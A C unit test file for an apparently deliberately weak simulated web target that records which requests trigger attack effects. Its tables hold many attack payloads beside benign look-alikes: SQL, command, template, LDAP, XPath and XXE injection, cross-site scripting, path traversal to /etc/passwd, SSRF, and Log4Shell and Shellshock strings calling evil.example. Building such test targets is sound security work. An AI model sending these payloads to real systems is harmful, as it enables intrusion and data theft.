/* The weak application is weak, and only that: a value that must have its effect beside one that
 * must not. */
#include "effect/target/target.h"

#include <gio/gio.h>
#include <string.h>

#include "effect/target/request.h"
#include "util/json.h"

static json_t *load(const char *path) {
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) bytes = g_resources_lookup_data(path, 0, &error);
  g_assert_no_error(error);
  json_t *document =
      ak_json_parse(g_bytes_get_data(bytes, NULL), g_bytes_get_size(bytes), path, &error);
  g_assert_no_error(error);
  return document;
}

/* The effects of one request, with a space behind each. */
static char *effects_of(AkTarget *target, const char *request, gsize size) {
  g_autoptr(GString) answer = g_string_new(NULL), effects = g_string_new(NULL);
  g_autofree char *name = NULL;
  ak_target_answer(target, request, size, answer, effects, &name);
  g_assert_nonnull(strstr(answer->str, AK_TARGET_HEADER ": 1\r\n"));
  return g_strdup(effects->str);
}

typedef struct {
  const char *path, *value, *effects;
} Row;

static char *escape(const char *value) {
  return g_uri_escape_string(value, NULL, FALSE);
}

static void test_queries(void) {
  static const Row rows[] = {
      {"/search?q=", "' OR '1'='1", "sql "},
      {"/search?q=", "O'Brien", ""},
      {"/search?q=", "50% off", ""},
      {"/search?q=", "'; DROP TABLE orders; --", "sql "},
      {"/search?q=", "' || (SELECT password FROM users LIMIT 1) || '",
       "sql "}, /* finds nothing either way */
      {"/item?id=", "2", ""},
      {"/item?id=", "2-1", "sql "},
      {"/item?id=", "gateway", ""},
      {"/list?order=", "price", ""},
      {"/list?order=", "price DESC, name", ""},
      {"/list?order=", "random()", "sql "},
      {"/list?order=", "(SELECT 1)", "sql "},
      {"/hello?name=", "<b>Taro</b>", ""},
      {"/hello?name=", "<img src=x onerror=alert(1)>", "script "},
      {"/hello?name=", "<img src=\"a > b\" onerror=alert(1)>", "script "},
      {"/hello?name=", "<img src=x/onerror=alert(1)>", ""}, /* all of it is the address */
      {"/hello?name=", "<img title=\"x onerror=1\">", ""},
      {"/hello?name=", "<!-- <script>alert(1)</script> -->", ""},
      {"/hello?name=", "<script", ""},
      {"/hello?name=", "1 < 2 and onload=x", ""},
      {"/profile?colour=", "red", ""},
      {"/profile?colour=", "\" onclick=\"alert(1)", "script "},
      {"/link?url=", "https://www.example.jp/", ""},
      {"/link?url=", "java\tscript:alert(1)", "script "},
      {"/message?text=", "it's 5 o'clock", ""},
      {"/message?text=", "';alert(1);//", "script "},
      {"/file?name=", "manual.txt", ""},
      {"/file?name=", "../etc/passwd", "file "},
      {"/file?name=", "../docs/manual.txt", ""},
      {"/file?name=", "../etc/nothing", ""},
      {"/file?name=", "..\\windows\\win.ini", "file "},
      {"/file-filtered?name=", "../etc/passwd", ""},
      {"/file-filtered?name=", "....//etc/passwd", "file "},
      {"/file-decoded?name=", "../etc/passwd", ""},
      {"/file-decoded?name=", "..%2fetc%2fpasswd", "file "},
      {"/page?file=", "help.html", ""},
      {"/page?file=", "http://evil.example/x", "include "},
      {"/ping?host=", "127.0.0.1", ""},
      {"/ping?host=", "127.0.0.1; id", "command "},
      {"/ping?host=", "127.0.0.1;", ""},
      {"/ping?host=", "127.0.0.1 'a;b|c'", ""},
      {"/ping?host=", "127.0.0.1 'a;b|c", ""}, /* not closed: nothing runs */
      {"/ping?host=", "127.0.0.1 \\; id", ""},
      {"/ping?host=", "$(id)", "command "},
      {"/ping?host=", "$()", ""},
      {"/ping?host=", "'$(id)'", ""},
      {"/ping?host=", "\"$(id)\"", "command "},
      {"/ping?host=", "a # ; id", ""},
      {"/fetch?url=", "https://www.example.org/", ""},
      {"/fetch?url=", "http://2130706433/", "fetch "},
      {"/fetch?url=", "http://127.0.0.1@www.example.org/", ""},
      {"/fetch?url=", "http://www.example.org@127.0.0.1/", "fetch "},
      {"/fetch?url=", "http://[::ffff:10.0.0.1]/", "fetch "},
      {"/fetch?url=", "http://[2001:db8::1]/", ""},
      {"/fetch?url=", "file:///etc/passwd", "fetch "},
      {"/greet?name=", "{{7*7}}", "template "},
      {"/greet?name=", "Dear {name}", ""},
      {"/greet?name=", "{{ }}", ""},
      {"/redirect?to=", "/home", ""},
      {"/redirect?to=", "/\\evil.example", "redirect "},
      {"/redirect?to=", "/home\r\nSet-Cookie: a=b", "header "},
      {"/staff?uid=", "hanako", ""},
      {"/staff?uid=", "*)(uid=*", "directory "},
      {"/anything?q=", "' OR '1'='1", ""},
  };
  g_autoptr(json_t) data = load("/akashi/effect/target.json");
  g_autoptr(AkTarget) target = ak_target_new(data, NULL);
  for (gsize i = 0; i < G_N_ELEMENTS(rows); i++) {
    g_autofree char *value = escape(rows[i].value);
    g_autofree char *request =
        g_strdup_printf("GET %s%s HTTP/1.1\r\nHost: a\r\n\r\n", rows[i].path, value);
    g_autofree char *effects = effects_of(target, request, strlen(request));
    g_test_message("%s%s", rows[i].path, rows[i].value);
    g_assert_cmpstr(effects, ==, rows[i].effects);
  }
}

static void test_bodies(void) {
  static const struct {
    const char *path, *type, *body, *effects;
  } rows[] = {
      {"/login", "application/x-www-form-urlencoded", "user=admin&password=hidden-7Kq2", ""},
      {"/login", "application/x-www-form-urlencoded", "user=admin%27+--&password=x", "sql "},
      {"/login", "application/x-www-form-urlencoded", "user=o%27brien&password=x", ""},
      {"/api/login", "application/json", "{\"password\": \"') OR 1=1 --\"}", "sql "},
      {"/api/find", "application/json", "{\"password\": \"$gt\"}", ""},
      {"/api/find", "application/json", "{\"password\": {\"$gt\": \"\"}}", "operator "},
      {"/api/settings", "application/json", "{\"prototype\": {\"a\": 1}}", ""},
      {"/api/settings", "application/json", "{\"a\": [{\"\\u005f_proto__\": {}}]}", "prototype "},
      {"/xml", "application/xml", "<!DOCTYPE a [<!ENTITY x \"inner\">]><a>&x;</a>", ""},
      {"/xml", "application/xml",
       "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>", "entity "},
      {"/xml", "application/xml", "<a>not closed", ""},
      {"/xml-login", "application/x-www-form-urlencoded", "user=hanako&password=x", ""},
      {"/xml-login", "application/x-www-form-urlencoded",
       "user=x%27+or+%27a%27%3D%27a%27+or+%27b&password=x", "xpath "},
      {"/xml-login", "application/x-www-form-urlencoded", "user=admin%27+or+%27a%27%3D%27a",
       "xpath "},
      {"/state", "application/x-www-form-urlencoded", "state=%7B%22step%22%3A2%7D", ""},
      {"/state", "application/x-www-form-urlencoded", "state=O%3A4%3A%22Evil%22%3A0%3A%7B%7D",
       "object "},
      {"/guestbook", "application/x-www-form-urlencoded", "text=%3C%21--+note+--%3E", ""},
      {"/guestbook", "application/x-www-form-urlencoded",
       "text=%3C%21--%23exec+cmd%3D%22id%22--%3E", "directive "},
      {"/upload", "multipart/form-data; boundary=b",
       "--b\r\nContent-Disposition: form-data; name=\"f\"; "
       "filename=\"a.jpg\"\r\n\r\nx\r\n--b--\r\n",
       ""},
      {"/upload", "multipart/form-data; boundary=b",
       "--b\r\nContent-Disposition: form-data; name=\"f\"; "
       "filename=\"a.php.\"\r\n\r\nx\r\n--b--\r\n",
       "upload "},
      {"/comment", "multipart/form-data; boundary=b",
       "--b\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\n<svg "
       "onload=alert(1)>\r\n--b--\r\n",
       "script "},
  };
  g_autoptr(json_t) data = load("/akashi/effect/target.json");
  g_autoptr(AkTarget) target = ak_target_new(data, NULL);
  for (gsize i = 0; i < G_N_ELEMENTS(rows); i++) {
    g_autofree char *request =
        g_strdup_printf("POST %s HTTP/1.1\r\nContent-Type: %s\r\nContent-Length: %zu\r\n\r\n%s",
                        rows[i].path, rows[i].type, strlen(rows[i].body), rows[i].body);
    g_autofree char *effects = effects_of(target, request, strlen(request));
    g_test_message("%s %s", rows[i].path, rows[i].body);
    g_assert_cmpstr(effects, ==, rows[i].effects);
  }
}

static void test_headers(void) {
  static const Row rows[] = {
      {"User-Agent", "Mozilla/5.0 (X11; Linux x86_64)", ""},
      {"User-Agent", "${jndi:ldap://evil.example/a}", "lookup "},
      {"User-Agent", "${${lower:j}${::-n}di:ldap://evil.example/a}", "lookup "},
      {"User-Agent", "${date:yyyy} jndi:ldap", ""},
      {"User-Agent", "() { :; }; /bin/id", "function "},
      {"User-Agent", "() { :; }", ""},
      {"X-Forwarded-For", "192.0.2.1", ""},
      {"X-Forwarded-For", "' || (SELECT password FROM users LIMIT 1) || '", "sql "},
      {"Cookie", "session=s-1f3a", ""},
      {"Cookie", "a=b; session=' OR '1'='1' --", "sql "},
  };
  static const char *const paths[] = {"/cgi-bin/status", "/visit", "/account"};
  g_autoptr(json_t) data = load("/akashi/effect/target.json");
  g_autoptr(AkTarget) target = ak_target_new(data, NULL);
  for (gsize i = 0; i < G_N_ELEMENTS(rows); i++) {
    const char *path = paths[*rows[i].path == 'U' ? 0 : *rows[i].path == 'X' ? 1 : 2];
    g_autofree char *request =
        g_strdup_printf("GET %s HTTP/1.1\r\n%s: %s\r\n\r\n", path, rows[i].path, rows[i].value);
    g_autofree char *effects = effects_of(target, request, strlen(request));
    g_test_message("%s", rows[i].value);
    g_assert_cmpstr(effects, ==, rows[i].effects);
  }
}

/* What an attack changed is as before with the next request. */
static void test_taken_back(void) {
  static const char drop[] = "GET /search?q=%27%3B+DELETE+FROM+goods%3B+--+ HTTP/1.1\r\n\r\n";
  static const char usual[] = "GET /search?q=gate HTTP/1.1\r\nX-Akashi-Case: akc-1\r\n\r\n";
  g_autoptr(json_t) data = load("/akashi/effect/target.json");
  g_autoptr(AkTarget) target = ak_target_new(data, NULL);
  g_autofree char *effects = effects_of(target, drop, strlen(drop));
  g_assert_cmpstr(effects, ==, "sql ");
  g_autoptr(GString) answer = g_string_new(NULL), none = g_string_new(NULL);
  g_autofree char *name = NULL;
  ak_target_answer(target, usual, strlen(usual), answer, none, &name);
  g_assert_cmpstr(name, ==, "akc-1");
  g_assert_cmpstr(none->str, ==, "");
  g_assert_nonnull(strstr(answer->str, "gateway"));
}

/* Requests come in pieces: not here yet, whole, and too large are told apart. */
static void test_measure(void) {
  static const char chunked[] =
      "POST /comment HTTP/1.1\r\nTransfer-Encoding: chunked\r\nContent-Type: "
      "application/x-www-form-urlencoded\r\n\r\n5\r\ntext=\r\nC\r\n%3Cscript%3E\r\n0\r\n\r\n";
  gsize body = 0;
  for (gsize size = 0; size < strlen(chunked); size++)
    g_assert_cmpint(ak_target_request_measure(chunked, size, &body), ==, 0);
  g_assert_cmpint(ak_target_request_measure(chunked, strlen(chunked), &body), ==, strlen(chunked));
  g_autoptr(AkTargetRequest) request = ak_target_request_parse(chunked, strlen(chunked), NULL);
  g_assert_cmpstr(ak_target_field(request->form, "TEXT")->str, ==, "<script>");
  static const char large[] = "POST / HTTP/1.1\r\nContent-Length: 99999999999\r\n\r\n";
  g_assert_cmpint(ak_target_request_measure(large, strlen(large), &body), ==, -1);
  static const char huge_chunk[] =
      "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n";
  g_assert_cmpint(ak_target_request_measure(huge_chunk, strlen(huge_chunk), &body), ==, -1);
}

int main(int argc, char **argv) {
  g_test_init(&argc, &argv, NULL);
  g_test_add_func("/effect/target/queries", test_queries);
  g_test_add_func("/effect/target/bodies", test_bodies);
  g_test_add_func("/effect/target/headers", test_headers);
  g_test_add_func("/effect/target/taken-back", test_taken_back);
  g_test_add_func("/effect/target/measure", test_measure);
  return g_test_run();
}
